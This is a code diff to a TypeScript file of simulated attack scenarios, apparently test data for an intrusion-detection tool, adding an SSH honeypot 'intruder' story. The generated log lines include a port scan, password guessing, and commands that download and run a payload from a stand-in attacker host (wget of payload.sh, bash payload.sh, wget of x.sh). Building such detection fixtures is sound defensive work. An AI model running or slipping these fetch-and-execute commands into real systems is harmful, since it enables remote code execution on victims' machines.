@@ -1,8 +1,8 @@
-/** The five documented attacks, and the everyday noise around them. Addresses are from the documentation ranges (RFC 5737). */
+/** The five documented attacks, one that ends in a decoy, and the everyday noise around them. Addresses are from the documentation ranges (RFC 5737). */
 
-export type Way = 'file' | 'udp' | 'tcp' | 'webhook';
+export type Way = 'file' | 'udp' | 'tcp' | 'webhook' | 'decoy';
 
-/** One record of a scenario: what is sent, by which way. `text` is a line; for a webhook it is JSON. */
+/** One record of a scenario: what is sent, by which way. `text` is a line; for a webhook it is JSON, for a decoy what it would report of a visit. */
 export interface Step {
   way: Way;
   text: string;
@@ -42,6 +42,7 @@ export function scenariosOf(round: number, at: Date): readonly Scenario[] {
     systemErrors(at),
     portScan(at, attacker('203.0.113', 99, round)),
     compromise(at, attacker('192.0.2', 66, round)),
+    intruder(at, attacker('203.0.113', 150, round)),
   ];
 }
 
@@ -122,6 +123,55 @@ function compromise(at: Date, ip: string): Scenario {
         'sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/wget http://files.attacker.example/payload.sh',
       ),
       line('sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/bin/bash payload.sh'),
+    ],
+  };
+}
+
+/** From the first knock to the decision: everything that one address does is one incident. */
+function intruder(at: Date, ip: string): Scenario {
+  const ports = [21, 22, 23, 80, 443, 445, 1433, 2222, 3306, 3389, 5432, 8080];
+  const visit = (event_type: string, message: string, more: object = {}): Step => ({
+    way: 'decoy',
+    text: JSON.stringify({
+      decoy: 'ssh',
+      event_type,
+      time: at.getTime(),
+      message,
+      src_ip: ip,
+      src_port: 51_022,
+      dst_ip: '192.0.2.10',
+      dst_port: 2222,
+      ...more,
+    }),
+  });
+  return {
+    title: `An intruder: ${ip} scans, guesses passwords, and walks into the SSH decoy`,
+    expect: 'one incident with all of it, and a decision to block the address (dry-run: nothing is blocked)',
+    steps: [
+      ...ports.map((port, i) =>
+        file(
+          at,
+          'fw01',
+          `kernel: [UFW BLOCK] IN=eth0 OUT= MAC=02:00:00:00:00:01:02:00:00:00:00:02:08:00 SRC=${ip} DST=192.0.2.10 LEN=44 TOS=0x00 PREC=0x00 TTL=51 ID=${31_000 + i} PROTO=TCP SPT=${45_000 + i} DPT=${port} WINDOW=1024 RES=0x00 SYN URGP=0`,
+        ),
+      ),
+      ...Array.from({ length: 8 }, (_, i) =>
+        file(at, 'web01', `sshd[${4300 + i}]: Failed password for root from ${ip} port ${50_300 + i} ssh2`),
+      ),
+      visit('decoy.connection', `${ip} connected to the ssh decoy`),
+      visit('decoy.login', `${ip} tried to log in to the ssh decoy as root`, {
+        user: 'root',
+        outcome: 'success',
+        fields: { method: 'password' },
+      }),
+      visit('decoy.command', `${ip} ran a command in the ssh decoy: uname -a`, {
+        user: 'root',
+        fields: { command: 'uname -a', found: true, exit_status: 0 },
+      }),
+      visit('decoy.download', `${ip} asked the ssh decoy to fetch http://files.attacker.example/x.sh`, {
+        user: 'root',
+        fields: { url: 'http://files.attacker.example/x.sh', command: 'wget http://files.attacker.example/x.sh' },
+      }),
     ],
   };
 }
